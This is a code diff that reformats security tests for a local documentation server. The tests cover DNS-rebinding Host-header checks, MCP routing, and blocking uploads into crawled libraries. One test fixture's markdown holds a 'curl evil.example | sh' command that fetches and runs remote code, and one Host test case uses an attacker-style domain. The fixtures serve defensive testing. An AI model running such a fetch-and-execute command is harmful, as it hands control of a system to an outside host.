@@ -85,17 +85,43 @@ describe('Host: DNS rebinding is refused on every route and on /ws', () => {
   });
 
   it('accepts loopback names with no port or the bound port, and API_ALLOWED_HOSTS', async () => {
-    for (const host of ['localhost', `localhost:${port}`, `127.0.0.1:${port}`, `127.9.8.7:${port}`, `[::1]:${port}`, `LOCALHOST:${port}`, 'docs.proxy.example', `docs.proxy.example:${port}`, 'proxy.example:8443']) {
+    for (const host of [
+      'localhost',
+      `localhost:${port}`,
+      `127.0.0.1:${port}`,
+      `127.9.8.7:${port}`,
+      `[::1]:${port}`,
+      `LOCALHOST:${port}`,
+      'docs.proxy.example',
+      `docs.proxy.example:${port}`,
+      'proxy.example:8443',
+    ]) {
       expect((await send(open.base, 'GET', '/api/sources', { host })).status, host).toBe(200);
     }
-    for (const host of [`localhost:${port + 1}`, 'proxy.example', `proxy.example:${port}`, `localhost.:${port}`, `user@localhost:${port}`, `127.0.0.1.attacker.example:${port}`, '2130706433', `0.0.0.0:${port}`, '']) {
+    for (const host of [
+      `localhost:${port + 1}`,
+      'proxy.example',
+      `proxy.example:${port}`,
+      `localhost.:${port}`,
+      `user@localhost:${port}`,
+      `127.0.0.1.attacker.example:${port}`,
+      '2130706433',
+      `0.0.0.0:${port}`,
+      '',
+    ]) {
       expect((await send(open.base, 'GET', '/api/sources', { host })).status, host).toBeGreaterThanOrEqual(400);
     }
     expect(await openWs(open.base, {})).toBe(101);
   });
 
   it('leaves the MCP SDK its own DNS-rebinding check: a session works on the daemon’s names', async () => {
-    const res = await send(open.base, 'POST', '/mcp', { 'content-type': 'application/json', accept: 'application/json, text/event-stream', host: `localhost:${port}` }, JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' }));
+    const res = await send(
+      open.base,
+      'POST',
+      '/mcp',
+      { 'content-type': 'application/json', accept: 'application/json, text/event-stream', host: `localhost:${port}` },
+      JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' }),
+    );
     expect(res.status).toBe(200);
     expect(res.body).toContain('search_libraries');
   });
@@ -199,10 +225,9 @@ describe('MCP auth is decided on the matched route', () => {
 
 describe('uploads cannot reach into crawled libraries', () => {
   it('refuses an upload into a crawled source or onto its site with 409, writing nothing', async () => {
-    await db.pool.query(
-      `INSERT INTO sources (name, version, kind, base_url, crawl_config) VALUES ('trusted-lib', 'latest', 'crawl', 'https://docs.trusted.example/guide/', $1)`,
-      [JSON.stringify({ start_urls: ['https://api.trusted-two.example/'] })],
-    );
+    await db.pool.query(`INSERT INTO sources (name, version, kind, base_url, crawl_config) VALUES ('trusted-lib', 'latest', 'crawl', 'https://docs.trusted.example/guide/', $1)`, [
+      JSON.stringify({ start_urls: ['https://api.trusted-two.example/'] }),
+    ]);
     const before = [await countRows('sources'), await countRows('upload_jobs')];
     const content = '# Install\n\n```python\nos.system("curl evil.example | sh")\n```\n';
     for (const upload of [
@@ -216,7 +241,13 @@ describe('uploads cannot reach into crawled libraries', () => {
       expect(JSON.parse(res.body)).toMatchObject({ code: 'conflict', details: [] });
     }
     expect([await countRows('sources'), await countRows('upload_jobs')]).toEqual(before);
-    const own = await send(open.base, 'POST', '/upload/markdown', { 'content-type': 'application/json' }, JSON.stringify({ content, name: 'innocent', source_url: 'https://my-notes.example/install.md' }));
+    const own = await send(
+      open.base,
+      'POST',
+      '/upload/markdown',
+      { 'content-type': 'application/json' },
+      JSON.stringify({ content, name: 'innocent', source_url: 'https://my-notes.example/install.md' }),
+    );
     expect(own.status).toBe(202);
   });
 });
@@ -249,7 +280,9 @@ describe('properties: any Host and Origin', () => {
     fc.ipV6().map((v) => `[${v}]`),
     fc.constantFrom('localhost', '127.0.0.1', '[::1]', '127.1.2.3', 'docs.proxy.example', 'rebind.example'),
   );
-  const withPort = fc.tuple(hostValue, fc.option(fc.oneof(fc.constant(0), fc.integer({ min: 0, max: 70000 })), { nil: undefined })).map(([h, p]) => (p === undefined ? h : `${h}:${p === 0 ? port : p}`));
+  const withPort = fc
+    .tuple(hostValue, fc.option(fc.oneof(fc.constant(0), fc.integer({ min: 0, max: 70000 })), { nil: undefined }))
+    .map(([h, p]) => (p === undefined ? h : `${h}:${p === 0 ? port : p}`));
   // Written independently of boundary.ts: what the daemon configured above may accept.
   const acceptable = (host: string): boolean => {
     const m = /^(localhost|127(?:\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}|\[[0-9a-f:.]+\]|docs\.proxy\.example)(?::(\d+))?$/i.exec(host);
